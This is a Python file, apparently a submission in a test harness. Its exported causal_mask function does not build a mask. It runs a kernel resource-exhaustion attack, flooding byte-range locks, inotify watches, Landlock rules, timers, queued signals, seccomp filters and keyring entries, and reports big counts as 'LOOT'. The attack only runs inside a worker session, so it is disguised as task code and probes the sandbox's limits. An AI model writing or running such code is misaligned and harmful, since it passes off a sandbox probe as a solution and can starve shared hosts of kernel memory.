"""Fills memory with entries of the kernel's own lists: locks on parts of a file, watches, rules, timers, signals, filters.

checks: test_the_mask_fits_every_length
outcomes: failed
"""

import contextlib
import ctypes
import fcntl
import os
import struct
import sys

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")

libc = ctypes.CDLL(None, use_errno=True)
TIMER, QUEUE_SIGNAL, KEY = (222, 129, 248) if os.uname().machine == "x86_64" else (107, 138, 217)
MANY = 3_000  # half a megabyte or so of each, where nothing holds it back


def locks():
    """Lock every other byte of a file; a child sees how many there are."""
    file = os.open("locked", os.O_RDWR | os.O_CREAT)
    for number in range(MANY, 0, -1):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * number)
    child = os.fork()
    if child == 0:
        asked = fcntl.fcntl(file, fcntl.F_GETLK, struct.pack("hhlli", fcntl.F_WRLCK, 0, 2, 1, 0))
        os._exit(struct.unpack("hhlli", asked)[0] != fcntl.F_UNLCK)
    return MANY if os.waitpid(child, 0)[1] else 0


def watches():
    watch, count = libc.inotify_init1(0), 0
    for number in range(200):
        os.makedirs(f"watched/{number}")
        count += libc.inotify_add_watch(watch, f"watched/{number}".encode(), 1) >= 0
    return count


def rules():
    made = libc.syscall(444, struct.pack("3Q", 0, 1, 0), 16, 0)
    return sum(libc.syscall(445, made, 2, struct.pack("2Q", 1, port), 0) == 0 for port in range(MANY))


def timers():
    made = ctypes.c_void_p()
    return sum(libc.syscall(TIMER, 1, None, ctypes.byref(made)) == 0 for _ in range(MANY))


def signals():
    libc.sigprocmask(0, ctypes.create_string_buffer(b"\xff" * 128), None)
    about = struct.pack("3i", 40, 0, -1) + bytes(116)
    return sum(libc.syscall(QUEUE_SIGNAL, os.getpid(), 40, about) == 0 for _ in range(MANY))


def filters():
    code = ctypes.create_string_buffer(struct.pack("HBBI", 0x20, 0, 0, 0) * 999 + struct.pack("HBBI", 6, 0, 0, 0x7FFF0000))
    program = struct.pack("@HxxxxxxP", 1000, ctypes.addressof(code))
    return 500 * sum(libc.prctl(22, 2, program, 0, 0) == 0 for _ in range(4))


def keys():
    return 500 * sum(libc.syscall(KEY, b"user", b"sw%d" % number, b"x" * 500, 500, -3) > 0 for number in range(4))


def causal_mask(*args, **kwargs):
    for fill in (locks, watches, rules, timers, filters, keys, signals):
        count = 0
        with contextlib.suppress(OSError):
            count = fill()
        print(f"{'LOOT' if count > 1_500 or fill is watches and count else 'had'}: {count} {fill.__name__}")
